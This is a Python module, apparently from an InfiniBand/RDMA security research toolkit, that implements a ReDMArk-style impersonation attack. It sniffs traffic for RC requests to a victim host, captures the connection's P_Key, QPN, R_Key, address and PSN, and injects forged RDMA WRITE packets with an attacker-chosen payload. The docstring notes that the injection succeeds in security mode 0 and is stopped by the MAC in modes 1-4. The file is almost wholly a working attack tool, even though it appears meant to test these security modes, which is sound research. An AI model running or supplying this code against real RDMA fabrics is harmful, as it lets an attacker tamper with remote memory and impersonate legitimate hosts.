"""Forging with captured keys (seed 000 type II; ReDMArk's impersonation): inject RDMA WRITEs.

Sniffs the link until it sees an RC request to ``--dst-gid`` (or takes ``--pkey/--qpn/--rkey/--va/--psn``
from the command line), then impersonates the requester: same source GID and MAC, same P_Key, QPN and
R_Key, the next PSN, the connection's security mode, and the attacker's payload. In mode 0 the write lands
(the R_Key is all the target checks); in modes 1-4 the MAC, which the attacker cannot compute, fails.
"""

from __future__ import annotations

import argparse
import ipaddress
from typing import Any

from ibsec.builder import Builder, gid_bytes

from .common import RawSocket, blast, checked, gid_text, int0, parser, report, run
from .forging import forged

REQUESTS = ("RC_SEND_ONLY", "RC_RDMA_WRITE_ONLY")


def capture(sock: RawSocket, dst_gid: str, seconds: float) -> dict[str, Any] | None:
    """The last RC request to ``dst_gid`` seen within ``seconds`` (its keys and PSN), if any."""
    found: dict[str, Any] | None = None
    for _, view in sock.sniff(seconds):
        if view.opcode_name in REQUESTS and str(ipaddress.IPv6Address(view.dst_gid)) == dst_gid:
            found = {
                "src_gid": str(ipaddress.IPv6Address(view.src_gid)),
                "pkey": view.pkey,
                "qpn": view.dqpn,
                "psn": view.psn,
                "mode": view.mode,
                "src_qp": 0,
            }
            if view.reth:
                found.update(va=view.reth[0], rkey=view.reth[1])
    return found


def connection_options(p: argparse.ArgumentParser) -> None:
    """The options that name a connection to inject into, each learnt by ``--sniff`` if not given."""
    p.add_argument("--dst-gid", required=True, help="the victim host")
    p.add_argument("--sniff", type=float, default=0.0, help="seconds to sniff for a request to copy")
    p.add_argument("--src-gid", help="source GID to claim (default: the captured requester)")
    p.add_argument("--pkey", type=int0)
    p.add_argument("--qpn", type=int0, help="the victim's QPN of the connection")
    p.add_argument("--psn", type=int0, help="the victim's next expected PSN (default: captured + 1)")
    p.add_argument("--mode", type=int, choices=range(5), help="security mode (default: captured, else 0)")


def complete(args: argparse.Namespace, sock: RawSocket, tool: str, required: tuple[str, ...]) -> None:
    """Fill the connection values not given (source GID, P_Key, QPN, mode, next PSN) from a request
    sniffed for ``--sniff`` seconds; refuse to go on without the ``required`` ones. Mode defaults to 0."""
    learnt = capture(sock, gid_text(args.dst_gid), args.sniff) if args.sniff else None
    for name in ("src_gid", "pkey", "qpn", "mode"):
        if getattr(args, name) is None and learnt is not None:
            setattr(args, name, learnt[name])
    if args.psn is None and learnt is not None:
        args.psn = learnt["psn"] + 1
    missing = [n for n in required if getattr(args, n) is None]
    if missing:
        raise SystemExit(f"{tool}: nothing captured and no value for {', '.join(missing)}")
    args.mode = args.mode or 0


def target(args: argparse.Namespace, sock: RawSocket) -> dict[str, Any]:
    """What to forge: captured values, overridden by anything given on the command line."""
    learnt = capture(sock, gid_text(args.dst_gid), args.sniff) if args.sniff else None
    values = dict(learnt or {})
    for name in ("src_gid", "pkey", "qpn", "rkey", "va", "mode"):
        if getattr(args, name) is not None:
            values[name] = getattr(args, name)
    if args.psn is not None:
        values["psn"] = args.psn - 1
    missing = [n for n in ("src_gid", "pkey", "qpn", "rkey", "va", "psn") if n not in values]
    if missing:
        raise SystemExit(f"forge: nothing captured and no value for {', '.join(missing)}")
    values.setdefault("mode", 0)
    return values


def main(argv: list[str] | None = None) -> int:
    p = parser(__doc__.splitlines()[0])
    p.set_defaults(count=1)
    p.add_argument("--dst-gid", required=True, help="the target host")
    p.add_argument("--sniff", type=float, default=0.0, help="seconds to sniff for a request to copy")
    p.add_argument("--src-gid", help="GID to impersonate (default: the captured requester)")
    p.add_argument("--pkey", type=int0)
    p.add_argument("--qpn", type=int0, help="the target's QPN")
    p.add_argument("--rkey", type=int0)
    p.add_argument("--va", type=int0, help="remote virtual address to write")
    p.add_argument("--psn", type=int0, help="PSN of the first forged packet (default: captured + 1)")
    p.add_argument("--mode", type=int, choices=range(5), help="security mode (default: captured)")
    p.add_argument("--data", default="FORGED", help="payload text")
    args = checked(p.parse_args(argv))
    sock = RawSocket(args.iface)
    t = target(args, sock)
    src = gid_bytes(gid_text(t["src_gid"]))
    builder = Builder(sock.mac, src)
    data = args.data.encode()
    summary = blast(
        sock,
        lambda i: forged(
            builder,
            t["mode"],
            args.dst_gid,
            "RC_RDMA_WRITE_ONLY",
            t["pkey"],
            t["qpn"],
            t["psn"] + 1 + i,
            data,
            ackreq=True,
            reth=(t["va"], t["rkey"], len(data)),
        ),
        args,
    )
    report(
        {
            "attack": "forge",
            "impersonated": t["src_gid"],
            "pkey": t["pkey"],
            "qpn": t["qpn"],
            "rkey": t["rkey"],
            "va": t["va"],
            "first_psn": t["psn"] + 1,
            "mode": t["mode"],
            **summary,
        }
    )
    sock.close()
    return 0


if __name__ == "__main__":
    run(main)
